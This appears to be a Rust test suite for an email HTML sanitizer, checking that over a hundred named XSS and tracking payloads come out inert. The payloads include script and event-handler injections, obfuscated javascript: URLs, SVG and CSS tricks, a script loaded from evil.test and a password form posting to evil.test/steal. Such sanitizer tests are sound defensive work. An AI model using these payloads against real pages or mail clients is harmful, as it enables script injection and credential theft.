//! Named hostile inputs: each must come out inert (checked by
//! `sanitize::audit`), and specific fragments must be absent or present.

use sanitize::{Policy, Sanitized, audit, email_html};

struct Case {
    name: &'static str,
    input: &'static str,
    /// Must not appear in the lower-cased output.
    absent: &'static [&'static str],
    /// Must appear in the output as is.
    present: &'static [&'static str],
}

const fn case(
    name: &'static str,
    input: &'static str,
    absent: &'static [&'static str],
    present: &'static [&'static str],
) -> Case {
    Case {
        name,
        input,
        absent,
        present,
    }
}

const CASES: &[Case] = &[
    // Script elements.
    case(
        "script tag",
        "<p>a</p><script>alert(1)</script>",
        &["<script", "alert"],
        &["<p>a</p>"],
    ),
    case(
        "script upper case",
        "<SCRIPT>alert(1)</SCRIPT>",
        &["<script", "alert"],
        &[],
    ),
    case(
        "script with src",
        "<script src=http://evil.test/x.js></script>",
        &["<script", "evil"],
        &[],
    ),
    case(
        "script split by null",
        "<scr\0ipt>alert(1)</script>",
        &["<script"],
        &[],
    ),
    case(
        "script in attribute-like text",
        "<div>&lt;script&gt;alert(1)&lt;/script&gt;</div>",
        &["<script"],
        &["&lt;script&gt;"],
    ),
    case(
        "script unclosed",
        "<script>alert(1)",
        &["<script", "alert"],
        &[],
    ),
    case(
        "script in table",
        "<table><tr><td><script>alert(1)</script></td></tr></table>",
        &["<script", "alert"],
        &["<td>"],
    ),
    case(
        "noscript content",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        &["onerror", "alert"],
        &[],
    ),
    case(
        "xmp breakout",
        "<xmp><script>alert(1)</script></xmp>",
        &["<script"],
        &[],
    ),
    // Event handlers.
    case(
        "img onerror",
        "<img src=x onerror=alert(1)>",
        &["onerror", "alert"],
        &[],
    ),
    case(
        "body onload",
        "<body onload=alert(1)><p>x</p></body>",
        &["onload", "alert"],
        &["<p>x</p>"],
    ),
    case(
        "div onmouseover",
        "<div onmouseover=\"alert(1)\">x</div>",
        &["onmouseover"],
        &["<div>x</div>"],
    ),
    case(
        "handler with slash separator",
        "<img/src=x/onerror=alert(1)>",
        &["onerror"],
        &[],
    ),
    case(
        "handler upper case",
        "<a href=https://e.test/ ONCLICK=alert(1)>x</a>",
        &["onclick"],
        &["https://e.test/"],
    ),
    case(
        "handler on details",
        "<details open ontoggle=alert(1)><summary>s</summary></details>",
        &["ontoggle"],
        &["<details"],
    ),
    case(
        "handler on unknown tag",
        "<x onfocus=alert(1) autofocus tabindex=1>x</x>",
        &["onfocus", "autofocus"],
        &[],
    ),
    case(
        "handler on marquee",
        "<marquee onstart=alert(1)>x</marquee>",
        &["onstart", "<marquee"],
        &[],
    ),
    case(
        "handler in style-like attr",
        "<p style=\"color:red\" onclick=\"x\">p</p>",
        &["onclick"],
        &["color: red"],
    ),
    // URLs in links.
    case(
        "javascript href",
        "<a href=\"javascript:alert(1)\">x</a>",
        &["javascript"],
        &[">x</a>"],
    ),
    case(
        "javascript href mixed case",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        &["javascript"],
        &[],
    ),
    case(
        "javascript href tab",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        &["script:"],
        &[],
    ),
    case(
        "javascript href newline",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        &["script:"],
        &[],
    ),
    case(
        "javascript href leading space",
        "<a href=\" javascript:alert(1)\">x</a>",
        &["javascript"],
        &[],
    ),
    case(
        "javascript href leading control",
        "<a href=\"\x01javascript:alert(1)\">x</a>",
        &["javascript"],
        &[],
    ),
    case(
        "javascript href decimal entities",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        &["javascript", "alert"],
        &[],
    ),
    case(
        "javascript href hex entities",
        "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
        &["javascript", "alert"],
        &[],
    ),
    case(
        "javascript href entity no semicolon",
        "<a href=\"javascript&#58alert(1)\">x</a>",
        &["javascript"],
        &[],
    ),
    case(
        "javascript href named colon",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        &["javascript"],
        &[],
    ),
    case(
        "javascript href tab entity",
        "<a href=\"java&Tab;script:alert(1)\">x</a>",
        &["script:"],
        &[],
    ),
    case(
        "javascript href percent",
        "<a href=\"javascript%3Aalert(1)\">x</a>",
        &["javascript"],
        &[],
    ),
    case(
        "vbscript href",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        &["vbscript"],
        &[],
    ),
    case(
        "data html href",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        &["data:"],
        &[],
    ),
    case(
        "file href",
        "<a href=\"file:///etc/passwd\">x</a>",
        &["file:"],
        &[],
    ),
    case(
        "relative href",
        "<a href=\"/logout\">x</a>",
        &["logout"],
        &[],
    ),
    case(
        "area href",
        "<map><area href=javascript:alert(1) shape=rect></map>",
        &["javascript", "<area"],
        &[],
    ),
    case(
        "link ping",
        "<a href=https://e.test/ ping=https://track.test/>x</a>",
        &["track.test", "ping"],
        &[],
    ),
    // Images and remote loads.
    case(
        "remote image blocked",
        "<img src=\"http://track.test/p.gif\" alt=\"logo\">",
        &["track.test"],
        &["alt=\"logo\""],
    ),
    case(
        "protocol relative image",
        "<img src=\"//track.test/p.gif\">",
        &["track.test"],
        &[],
    ),
    case(
        "srcset",
        "<img srcset=\"http://track.test/a.png 1x\">",
        &["track.test", "srcset"],
        &[],
    ),
    case(
        "picture source",
        "<picture><source srcset=http://track.test/a.png><img></picture>",
        &["track.test", "<source"],
        &[],
    ),
    case(
        "javascript img src",
        "<img src=\"javascript:alert(1)\">",
        &["javascript"],
        &[],
    ),
    case(
        "svg data image",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        &["data:"],
        &[],
    ),
    case(
        "html data image",
        "<img src=\"data:text/html,<script>alert(1)</script>\">",
        &["data:", "<script"],
        &[],
    ),
    case(
        "table background",
        "<table background=\"http://track.test/bg.png\"><tr><td>x</td></tr></table>",
        &["track.test", "background="],
        &["<td>x</td>"],
    ),
    case(
        "body background",
        "<body background=\"http://track.test/bg.png\">x</body>",
        &["track.test"],
        &[],
    ),
    case(
        "input image",
        "<input type=image src=http://track.test/a.png>",
        &["track.test", "<input"],
        &[],
    ),
    case(
        "video poster",
        "<video poster=http://track.test/a.png></video>",
        &["track.test", "<video"],
        &[],
    ),
    case(
        "audio src",
        "<audio src=http://track.test/a.mp3 autoplay></audio>",
        &["track.test", "<audio"],
        &[],
    ),
    case(
        "lowsrc dynsrc",
        "<img lowsrc=http://track.test/a dynsrc=http://track.test/b>",
        &["track.test"],
        &[],
    ),
    case(
        "link stylesheet",
        "<link rel=stylesheet href=http://track.test/a.css>",
        &["track.test", "<link"],
        &[],
    ),
    // Embedding and navigation.
    case(
        "iframe",
        "<iframe src=\"https://evil.test/\"></iframe>",
        &["<iframe", "evil.test"],
        &[],
    ),
    case(
        "iframe srcdoc",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        &["<iframe", "srcdoc", "<script"],
        &[],
    ),
    case(
        "frameset",
        "<frameset><frame src=https://evil.test/></frameset>",
        &["<frame", "evil.test"],
        &[],
    ),
    case(
        "object",
        "<object data=\"https://evil.test/x.swf\"></object>",
        &["<object", "evil.test"],
        &[],
    ),
    case(
        "embed",
        "<embed src=\"https://evil.test/x.swf\">",
        &["<embed", "evil.test"],
        &[],
    ),
    case(
        "applet",
        "<applet code=X codebase=https://evil.test/></applet>",
        &["<applet", "evil.test"],
        &[],
    ),
    case(
        "base href",
        "<base href=\"https://evil.test/\"><a href=\"x\">x</a>",
        &["<base", "evil.test"],
        &[],
    ),
    case(
        "meta refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/\">",
        &["<meta", "evil.test", "refresh"],
        &[],
    ),
    case(
        "meta charset",
        "<meta charset=utf-7>+ADw-script+AD4-",
        &["<meta", "<script"],
        &[],
    ),
    case(
        "portal",
        "<portal src=https://evil.test/></portal>",
        &["<portal", "evil.test"],
        &[],
    ),
    // Forms.
    case(
        "form",
        "<form action=\"https://evil.test/steal\"><input name=p type=password><button>Go</button></form>",
        &["<form", "<input", "<button", "evil.test"],
        &[],
    ),
    case(
        "formaction",
        "<button formaction=javascript:alert(1)>x</button>",
        &["<button", "javascript"],
        &[],
    ),
    case(
        "textarea",
        "<textarea>secret</textarea>",
        &["<textarea"],
        &[],
    ),
    case(
        "select",
        "<select><option>a</option></select>",
        &["<select", "<option"],
        &[],
    ),
    case(
        "isindex",
        "<isindex action=javascript:alert(1) type=image>",
        &["isindex", "javascript"],
        &[],
    ),
    // SVG and MathML.
    case(
        "svg script",
        "<svg><script>alert(1)</script></svg>",
        &["<svg", "<script"],
        &[],
    ),
    case(
        "svg onload",
        "<svg onload=alert(1)></svg>",
        &["<svg", "onload"],
        &[],
    ),
    case(
        "svg animate href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
        &["<svg", "<animate", "javascript"],
        &[],
    ),
    case(
        "svg set href",
        "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>",
        &["<set", "javascript"],
        &[],
    ),
    case(
        "svg feimage",
        "<svg><filter><feImage href=\"https://evil.test/a.png\"/></filter></svg>",
        &["feimage", "evil.test"],
        &[],
    ),
    case(
        "svg use",
        "<svg><use href=\"https://evil.test/a.svg#x\"/></svg>",
        &["<use", "evil.test"],
        &[],
    ),
    case(
        "svg image xlink",
        "<svg><image xlink:href=\"https://evil.test/a.png\"/></svg>",
        &["<image", "evil.test"],
        &[],
    ),
    case(
        "svg foreignobject",
        "<svg><foreignObject><iframe src=https://evil.test/></iframe></foreignObject></svg>",
        &["foreignobject", "<iframe"],
        &[],
    ),
    case(
        "svg style",
        "<svg><style>@import url(https://evil.test/a.css)</style></svg>",
        &["evil.test", "@import"],
        &[],
    ),
    case(
        "math href",
        "<math><mtext><a href=javascript:alert(1)>x</a></mtext></math>",
        &["<math", "javascript"],
        &[],
    ),
    case(
        "math maction",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        &["<math", "javascript"],
        &[],
    ),
    case(
        "math namespace confusion",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        &["onerror", "<math"],
        &[],
    ),
    case(
        "template",
        "<template><script>alert(1)</script></template>",
        &["<template", "<script"],
        &[],
    ),
    // CSS.
    case(
        "style element",
        "<style>body{background:url(https://track.test/a)}</style><p>x</p>",
        &["<style", "track.test"],
        &["<p>x</p>"],
    ),
    case(
        "style import",
        "<style>@import 'https://evil.test/a.css';</style>",
        &["@import", "evil.test"],
        &[],
    ),
    case(
        "style attr expression",
        "<div style=\"width: expression(alert(1))\">x</div>",
        &["expression"],
        &["<div>x</div>"],
    ),
    case(
        "style attr escaped expression",
        "<div style=\"width: e\\78pression(alert(1))\">x</div>",
        &["pression", "\\"],
        &[],
    ),
    case(
        "style attr url",
        "<div style=\"background: url('https://track.test/a')\">x</div>",
        &["url(", "track.test"],
        &[],
    ),
    case(
        "style attr background-image",
        "<td style=\"background-image: url(https://track.test/a)\">x</td>",
        &["track.test"],
        &[],
    ),
    case(
        "style attr import",
        "<p style=\"@import 'https://evil.test/a.css'\">x</p>",
        &["@import"],
        &[],
    ),
    case(
        "style attr behavior",
        "<p style=\"behavior: url(x.htc)\">x</p>",
        &["behavior"],
        &[],
    ),
    case(
        "style attr moz-binding",
        "<p style=\"-moz-binding: url(https://evil.test/x.xml#x)\">x</p>",
        &["binding"],
        &[],
    ),
    case(
        "style attr javascript",
        "<p style=\"background: javascript:alert(1)\">x</p>",
        &["javascript"],
        &[],
    ),
    case(
        "style attr position overlay",
        "<div style=\"position: fixed; top: 0; left: 0; width: 100%\">x</div>",
        &["position", "top:"],
        &["width: 100%"],
    ),
    case(
        "style attr entity-encoded url",
        "<p style=\"background:&#117;rl(https://track.test/a)\">x</p>",
        &["track.test"],
        &[],
    ),
    case(
        "style attr comment trick",
        "<p style=\"width: exp/**/ression(alert(1))\">x</p>",
        &["ression"],
        &[],
    ),
    case(
        "style attr list-style-image",
        "<ul style=\"list-style-image: url(https://track.test/a)\"><li>x</li></ul>",
        &["track.test"],
        &["<li>x</li>"],
    ),
    case(
        "style attr content",
        "<p style=\"content: url(https://track.test/a)\">x</p>",
        &["track.test"],
        &[],
    ),
    // Style sheets: inlined first, then filtered like any style attribute.
    case(
        "sheet expression",
        "<style>.a { width: expression(alert(1)) }</style><p class=a>x</p>",
        &["expression", "alert"],
        &["<p>x</p>"],
    ),
    case(
        "sheet url",
        "<style>.a { background: url(https://track.test/a) }</style><p class=a>x</p>",
        &["track.test", "url("],
        &["<p>x</p>"],
    ),
    case(
        "sheet background-image",
        "<style>td.a { background-image: url(https://track.test/a); color: red }</style><table><tr><td class=a>x</td></tr></table>",
        &["track.test"],
        &["style=\"color: red\""],
    ),
    case(
        "sheet import",
        "<style>@import url(https://evil.test/a.css); @import 'https://evil.test/b.css'; .a { color: red }</style><p class=a>x</p>",
        &["evil.test", "@import"],
        &["<p style=\"color: red\">x</p>"],
    ),
    case(
        "sheet escaped expression",
        "<style>.a { width: e\\78pression(alert(1)); color: red }</style><p class=a>x</p>",
        &["pression", "\\"],
        &["color: red"],
    ),
    case(
        "sheet escaped property name",
        "<style>.a { \\62 ehavior: url(x.htc) }</style><p class=a>x</p>",
        &["ehavior", "htc"],
        &[],
    ),
    case(
        "sheet comment splitting keyword",
        "<style>.a { width: exp/**/ression(alert(1)) }</style><p class=a>x</p>",
        &["ression"],
        &[],
    ),
    case(
        "sheet comment hiding a brace",
        "<style>.a { color: red /* } */; background: url(https://track.test/a) }</style><p class=a>x</p>",
        &["track.test"],
        &["color: red"],
    ),
    case(
        "sheet behavior",
        "<style>.a { behavior: url(x.htc) } p { -moz-binding: url(https://evil.test/x.xml#x) }</style><p class=a>x</p>",
        &["behavior", "binding", "evil.test"],
        &[],
    ),
    case(
        "sheet javascript",
        "<style>.a { background: javascript:alert(1) }</style><p class=a>x</p>",
        &["javascript"],
        &[],
    ),
    case(
        "sheet entity",
        "<style>.a { background: &#117;rl(https://track.test/a) }</style><p class=a>x</p>",
        &["track.test"],
        &[],
    ),
    case(
        "sheet closed inside a string",
        "<style>.a { font-family: \"</style><img src=x onerror=alert(1)>\" }</style><p class=a>x</p>",
        &["onerror", "<style"],
        &[],
    ),
    case(
        "sheet selector with markup",
        "<style>.a, <img src=x onerror=alert(1)> { color: red }</style><p class=a>x</p>",
        &["onerror"],
        &[],
    ),
    case(
        "sheet font-face",
        "<style>@font-face { font-family: X; src: url(https://track.test/f.woff) } .a { font-family: X }</style><p class=a>x</p>",
        &["track.test", "@font-face"],
        &["font-family: X"],
    ),
    case(
        "sheet keyframes",
        "<style>@keyframes k { from { background: url(https://track.test/a) } } .a { color: red }</style><p class=a>x</p>",
        &["track.test", "keyframes"],
        &["color: red"],
    ),
    case(
        "sheet position overlay",
        "<style>.a { position: fixed; top: 0; left: 0; z-index: 9 }</style><div class=a>x</div>",
        &["position", "z-index"],
        &["<div>x</div>"],
    ),
    case(
        "sheet on body",
        "<html><head><style>body { background: url(https://track.test/a); color: #333 }</style></head><body>x</body></html>",
        &["track.test"],
        &["<div style=\"color: #333\">x</div>"],
    ),
    case(
        "sheet and hostile inline style",
        "<style>.a { color: red }</style><p class=a style=\"background: url(https://track.test/a)\">x</p>",
        &["track.test"],
        &["<p style=\"color: red\">x</p>"],
    ),
    case(
        "sheet pseudo-element content",
        "<style>.a::before { content: url(https://track.test/a) } .a:hover { color: red }</style><p class=a>x</p>",
        &["track.test", "color"],
        &["<p>x</p>"],
    ),
    case(
        "sheet media query not applied",
        "<style>@media only screen and (max-width: 600px) { .a { color: red } }</style><p class=a>x</p>",
        &["color"],
        &["<p>x</p>"],
    ),
    // Structure and size.
    case(
        "unclosed tags",
        "<div><b><i><a href=https://e.test/>x",
        &[],
        &["https://e.test/"],
    ),
    case(
        "broken attribute quotes",
        "<img src=\"x\" alt='y onerror=alert(1)>",
        &["onerror=alert"],
        &[],
    ),
    case(
        "comment hiding script",
        "<!--><script>alert(1)</script>-->",
        &["<script"],
        &[],
    ),
    case(
        "conditional comment",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        &["<script"],
        &[],
    ),
    case(
        "cdata",
        "<![CDATA[<script>alert(1)</script>]]>",
        &["<script"],
        &[],
    ),
    case(
        "processing instruction",
        "<?xml-stylesheet href=\"https://evil.test/x.xsl\"?><p>x</p>",
        &["evil.test"],
        &["<p>x</p>"],
    ),
    case(
        "nul bytes",
        "<p>a\0b</p><scr\0ipt>x</scr\0ipt>",
        &["<script", "\0"],
        &[],
    ),
    case(
        "doctype and html",
        "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
        &["<html", "<head", "<title", "<body"],
        &["<p>x</p>"],
    ),
    case(
        "id and class dropped",
        "<p id=x class=y name=z>x</p>",
        &["id=", "class="],
        &["<p>x</p>"],
    ),
    case(
        "dangling markup",
        "<img src='https://track.test/?",
        &["track.test"],
        &[],
    ),
];

fn run(input: &str) -> Sanitized {
    email_html(input, &Policy::default())
}

#[test]
fn hostile_cases() {
    assert!(CASES.len() >= 60, "only {} cases", CASES.len());
    let mut failures = Vec::new();
    for c in CASES {
        let out = run(c.input);
        let lower = out.html.to_lowercase();
        let mut problems = audit::violations(&out.html, false);
        for a in c.absent {
            if lower.contains(&a.to_lowercase()) {
                problems.push(format!("contains {a:?}"));
            }
        }
        for p in c.present {
            if !out.html.contains(p) {
                problems.push(format!("lacks {p:?}"));
            }
        }
        if !problems.is_empty() {
            failures.push(format!(
                "{}: {problems:?}\n  in:  {:?}\n  out: {:?}",
                c.name, c.input, out.html
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failing:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// (name, input, exact expected output)
const BENIGN: &[(&str, &str, &str)] = &[
    (
        "bold",
        "<b>bold</b> <strong>s</strong>",
        "<b>bold</b> <strong>s</strong>",
    ),
    (
        "paragraphs",
        "<p>one</p><p>two<br>three</p>",
        "<p>one</p><p>two<br>three</p>",
    ),
    (
        "table",
        "<table border=\"1\" cellpadding=\"2\"><tr><td colspan=\"2\" bgcolor=\"#eee\">x</td></tr></table>",
        "<table border=\"1\" cellpadding=\"2\"><tbody><tr><td colspan=\"2\" bgcolor=\"#eee\">x</td></tr></tbody></table>",
    ),
    (
        "colours",
        "<span style=\"color: #c00; background-color: yellow\">x</span>",
        "<span style=\"color: #c00; background-color: yellow\">x</span>",
    ),
    (
        "font",
        "<font color=\"red\" face=\"Arial\" size=\"2\">x</font>",
        "<font color=\"red\" face=\"Arial\" size=\"2\">x</font>",
    ),
    (
        "link",
        "<a href=\"https://example.com/a?b=1&amp;c=2\">x</a>",
        "<a href=\"https://example.com/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
    ),
    (
        "mailto link",
        "<a href=\"mailto:ann@example.com\">Ann</a>",
        "<a href=\"mailto:ann@example.com\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">Ann</a>",
    ),
    (
        "lists",
        "<ul><li>a</li></ul><ol start=\"3\"><li>b</li></ol>",
        "<ul><li>a</li></ul><ol start=\"3\"><li>b</li></ol>",
    ),
    (
        "blockquote",
        "<blockquote>q</blockquote>",
        "<blockquote>q</blockquote>",
    ),
    (
        "headings",
        "<h1>t</h1><h2 align=\"center\">u</h2>",
        "<h1>t</h1><h2 align=\"center\">u</h2>",
    ),
    ("pre", "<pre>  a\n  b</pre>", "<pre>  a\n  b</pre>"),
    (
        "alt kept on image without src",
        "<img alt=\"x\" width=\"10\" height=\"5\">",
        "<img alt=\"x\" width=\"10\" height=\"5\">",
    ),
    (
        "data png",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    ),
    ("unicode", "<p>Grüße, 日本語</p>", "<p>Grüße, 日本語</p>"),
    (
        "entities",
        "<p>&lt;tag&gt; &amp; &nbsp;</p>",
        "<p>&lt;tag&gt; &amp; &nbsp;</p>",
    ),
];

#[test]
fn benign_cases() {
    for (name, input, want) in BENIGN {
        let out = run(input);
        assert_eq!(out.html, *want, "case {name}");
        assert_eq!(out.blocked_images, 0, "case {name}");
        assert!(
            audit::violations(&out.html, false).is_empty(),
            "case {name}"
        );
    }
}

#[test]
fn remote_images_counted_and_allowed() {
    let html =
        "<img src=\"https://e.test/a.png\"><img src=\"http://e.test/b.png\"><img src=\"cid:x\">";
    let blocked = run(html);
    assert_eq!(blocked.blocked_images, 2);
    assert!(blocked.has_remote_content);
    assert!(!blocked.html.contains("e.test"));

    let allowed = email_html(html, &Policy::new().allow_remote_images(true));
    assert_eq!(allowed.blocked_images, 0);
    assert!(allowed.has_remote_content);
    assert!(allowed.html.contains("src=\"https://e.test/a.png\""));
    assert!(allowed.html.contains("src=\"http://e.test/b.png\""));

    let none = run("<p>no images</p>");
    assert!(!none.has_remote_content);
}

#[test]
fn cid_rewritten_through_policy() {
    let policy = Policy::new()
        .cid_url(|cid| (cid == "logo%1@x" || cid == "a&b").then(|| format!("/part/{cid}")));
    let out = email_html(
        "<img src=\"cid:logo%251@x\"><img src=\"CID:missing@x\"><img src=\"cid:a&amp;b\"><a href=\"cid:logo%251@x\">l</a>",
        &policy,
    );
    assert_eq!(
        out.html,
        "<img src=\"/part/logo%1@x\"><img><img src=\"/part/a&amp;b\"><a rel=\"noopener noreferrer nofollow\" target=\"_blank\">l</a>"
    );
    assert_eq!(
        out.cid_refs,
        vec!["logo%1@x".to_string(), "a&b".to_string()]
    );
    assert_eq!(out.blocked_images, 0);

    let no_policy = run("<img src=\"cid:logo@x\">");
    assert_eq!(no_policy.html, "<img>");
}

#[test]
fn deep_nesting_does_not_overflow() {
    for tag in ["div", "b", "table", "blockquote", "span", "a"] {
        let depth = 10_000;
        let mut s = String::new();
        for _ in 0..depth {
            s.push_str(&format!("<{tag}>"));
        }
        s.push_str("x<script>alert(1)</script>");
        let input = s.clone();
        let handle = std::thread::Builder::new()
            .stack_size(2 * 1024 * 1024)
            .spawn(move || run(&input))
            .expect("spawn");
        let out = handle.join().expect("no panic or overflow");
        assert!(!out.html.contains("<script"), "{tag}");
    }
}

#[test]
fn style_sheets_inlined() {
    // (name, input, exact output)
    let cases: &[(&str, &str, &str)] = &[
        (
            "class styling survives",
            "<style>.btn { background-color: #2a7ae2; color: #fff }</style><a class=btn href=https://e.test/>Go</a>",
            "<a href=\"https://e.test/\" style=\"background-color: #2a7ae2; color: #fff\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">Go</a>",
        ),
        (
            "outlook paragraph classes",
            "<style><!-- p.MsoNormal, li.MsoNormal { margin: 0cm; font-size: 11.0pt } --></style><p class=MsoNormal>Hi</p>",
            "<p style=\"margin: 0cm; font-size: 11.0pt\">Hi</p>",
        ),
        (
            "specificity, then order, inline last",
            "<style>#m td { color: red } td.x { color: green; padding: 2px } td { padding: 0 }</style><table id=m><tr><td class=x style=\"padding: 4px\">1</td></tr></table>",
            "<table><tbody><tr><td style=\"color: red; padding: 4px\">1</td></tr></tbody></table>",
        ),
        (
            "important",
            "<style>.x { color: red !important }</style><span class=x style=\"color: blue\">x</span>",
            "<span style=\"color: red\">x</span>",
        ),
        (
            "media screen applied",
            "<style>@media screen { .x { color: red } }</style><span class=x>x</span>",
            "<span style=\"color: red\">x</span>",
        ),
    ];
    for (name, input, want) in cases {
        let out = run(input);
        assert_eq!(out.html, *want, "case {name}");
        assert!(
            audit::violations(&out.html, false).is_empty(),
            "case {name}"
        );
    }
}

#[test]
fn style_bounds_fall_back_to_dropping() {
    let hostile_rule =
        ".a { background: url(https://track.test/a); width: expression(alert(1)); color: red } ";
    // Too much CSS.
    let big = format!(
        "<style>{}</style><p class=a>x</p>",
        hostile_rule.repeat(200 * 1024 / hostile_rule.len())
    );
    // Too many selectors.
    let many: String = (0..3000).map(|i| format!(".c{i}, ")).collect();
    let many = format!("<style>{many}.a {{ color: red }}</style><p class=a>x</p>");
    // Matching that would take exponential time without the step bound
    // (nested less deeply than the parser's bound, so it is all parsed).
    let deep = format!(
        "<style>.z > span div div div div div div div div div div p {{ color: red }}</style><div class=z><div><span>{}<p>x</p>",
        "<div>".repeat(200)
    );
    for (name, input) in [("big", big), ("many", many), ("deep", deep)] {
        let out = run(&input);
        assert!(audit::violations(&out.html, false).is_empty(), "{name}");
        let lower = out.html.to_lowercase();
        for bad in ["track.test", "expression", "<style", "color: red"] {
            assert!(!lower.contains(bad), "{name}: contains {bad}");
        }
        assert!(out.html.contains(">x</p>"), "{name}");
    }
}

#[test]
fn long_lines() {
    let long = "a".repeat(2_000_000);
    let out = run(&format!("<p>{long}</p><img src=x onerror=alert(1)>"));
    assert!(out.html.len() > 2_000_000);
    assert!(audit::violations(&out.html, false).is_empty());
    let many_attrs: String = (0..10_000).map(|i| format!(" a{i}=x")).collect();
    let out = run(&format!("<p{many_attrs} onclick=x>y</p>"));
    assert_eq!(out.html, "<p>y</p>");
}
